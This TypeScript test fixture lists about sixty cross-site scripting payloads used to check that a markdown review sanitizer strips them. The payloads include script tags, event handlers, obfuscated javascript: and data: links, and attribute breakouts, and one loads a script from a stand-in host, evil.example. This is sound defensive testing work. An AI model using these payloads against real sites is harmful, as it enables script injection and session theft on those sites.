/**
 * Markdown and HTML attack payloads a review body might carry. The unit test
 * (render-review-markdown.test.ts) checks the sanitized HTML of each; a
 * browser test can save them as reviews and check that nothing runs. Each one
 * that would run calls `alert`, sets `window.__xss`, or navigates to a
 * javascript: URL.
 */
export const xssPayloads: readonly { name: string; markdown: string }[] = [
  { name: "script tag", markdown: "<script>alert(1)</script>" },
  { name: "script tag, upper case with src", markdown: "<SCRIPT SRC=//evil.example/x.js></SCRIPT>" },
  { name: "split script tag", markdown: "<scr<script>ipt>window.__xss=1</script>" },
  { name: "img onerror", markdown: "<img src=x onerror=alert(1)>" },
  { name: "svg onload", markdown: "<svg onload=alert(1)>" },
  { name: "script inside svg", markdown: "<svg><script>alert(1)</script></svg>" },
  { name: "iframe javascript: src", markdown: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: "iframe srcdoc", markdown: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: "raw anchor with javascript:", markdown: '<a href="javascript:alert(1)">click</a>' },
  { name: "raw anchor with tab-obfuscated javascript:", markdown: '<a href="jav&#x09;ascript:alert(1)">click</a>' },
  { name: "raw anchor with onclick", markdown: '<a href="https://example.com" onclick="alert(1)">click</a>' },
  { name: "HTML comment hiding a script", markdown: "<!-- <script>alert(1)</script> -->" },
  { name: "broken comment", markdown: "<!--><script>alert(1)</script>-->" },
  { name: "details ontoggle", markdown: "<details open ontoggle=alert(1)>" },
  { name: "body onload", markdown: "<body onload=alert(1)>" },
  { name: "math/style mutation XSS", markdown: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
  { name: "noscript attribute breakout", markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: "xmp breakout", markdown: "<xmp><script>alert(1)</script></xmp>" },
  { name: "template", markdown: "<template><script>alert(1)</script></template>" },
  { name: "style tag", markdown: "<style>@import 'javascript:alert(1)';</style>" },
  { name: "object data", markdown: '<object data="javascript:alert(1)"></object>' },
  { name: "embed src", markdown: '<embed src="javascript:alert(1)">' },
  { name: "form action", markdown: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: "input autofocus onfocus", markdown: "<input autofocus onfocus=alert(1)>" },
  { name: "meta refresh", markdown: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: "base href", markdown: '<base href="javascript:alert(1)//">' },
  { name: "style attribute with url()", markdown: '<div style="background:url(javascript:alert(1))">x</div>' },
  { name: "class, style and onclick on a paragraph", markdown: '<p class="x" style="color:red" onclick="alert(1)">x</p>' },
  { name: "markdown link to javascript:", markdown: "[click](javascript:alert(1))" },
  { name: "markdown link, mixed case scheme", markdown: "[click](JaVaScRiPt:alert(1))" },
  { name: "markdown link, leading spaces", markdown: "[click](   javascript:alert(1))" },
  { name: "markdown link, hex tab entity", markdown: "[click](jav&#x09;ascript:alert(1))" },
  { name: "markdown link, decimal tab entity", markdown: "[click](jav&#9;ascript:alert(1))" },
  { name: "markdown link, newline entity", markdown: "[click](java&#10;script:alert(1))" },
  { name: "markdown link, padded decimal entity", markdown: "[click](java&#0000115;cript:alert(1))" },
  { name: "markdown link, entity first letter", markdown: "[click](&#106;avascript:alert(1))" },
  { name: "markdown link, percent-encoded letter", markdown: "[click](%6Aavascript:alert(1))" },
  { name: "markdown link, &colon; entity", markdown: "[click](javascript&colon;alert(1))" },
  { name: "markdown link, angle brackets", markdown: "[click](<javascript:alert(1)>)" },
  { name: "markdown link to data: HTML", markdown: "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
  { name: "markdown link to vbscript:", markdown: "[click](vbscript:msgbox(1))" },
  { name: "markdown link to VBScript:, mixed case", markdown: "[click](VBScript:msgbox(1))" },
  { name: "markdown link to file:", markdown: "[click](file:///etc/passwd)" },
  { name: "protocol-relative link", markdown: "[click](//evil.example/path)" },
  { name: "reference link to javascript:", markdown: "[click][ref]\n\n[ref]: javascript:alert(1)" },
  { name: "reference link, obfuscated", markdown: "[click][ref]\n\n[ref]: jav&#x09;ascript:alert(1)" },
  { name: "autolink javascript:", markdown: "<javascript:alert(1)>" },
  { name: "autolink data:", markdown: "<data:text/html,<script>alert(1)</script>>" },
  { name: "bare javascript: text", markdown: "javascript:alert(1)" },
  { name: "image to javascript:", markdown: "![x](javascript:alert(1))" },
  { name: "image attribute breakout", markdown: '![x](x" onerror="alert(1))' },
  { name: "link attribute breakout", markdown: '[x](https://example.com" onmouseover="alert(1))' },
  { name: "link title breakout", markdown: "[x](https://example.com 'title\" onmouseover=alert(1)')" },
  { name: "mailto attribute breakout", markdown: '[x](mailto:x@example.com"onclick="alert(1))' },
  { name: "linkified URL with markup", markdown: 'https://example.com/"><script>alert(1)</script>' },
  { name: "script in inline code", markdown: "`<script>alert(1)</script>`" },
  { name: "fenced code breakout", markdown: "```js\n</code></pre><script>alert(1)</script>\n```" },
  { name: "fence info string", markdown: '```"><script>alert(1)</script>\nx\n```' },
  { name: "escaped entities", markdown: "&lt;script&gt;alert(1)&lt;/script&gt;" },
  { name: "numeric entities", markdown: "&#60;script&#62;alert(1)&#60;/script&#62;" },
  { name: "NUL before a tag", markdown: "\u0000<script>alert(1)</script>" },
  { name: "headings h1 and h2", markdown: "# Title\n\n## Subtitle\n\nSetext\n======" },
];

/**
 * All payloads in one body (under the 20,000-character limit) for a single
 * review; without the NUL one, which saveReview refuses outright.
 */
export const xssReviewBody: string = xssPayloads
  .filter((p) => !p.markdown.includes("\0"))
  .map((p) => p.markdown)
  .join("\n\n");
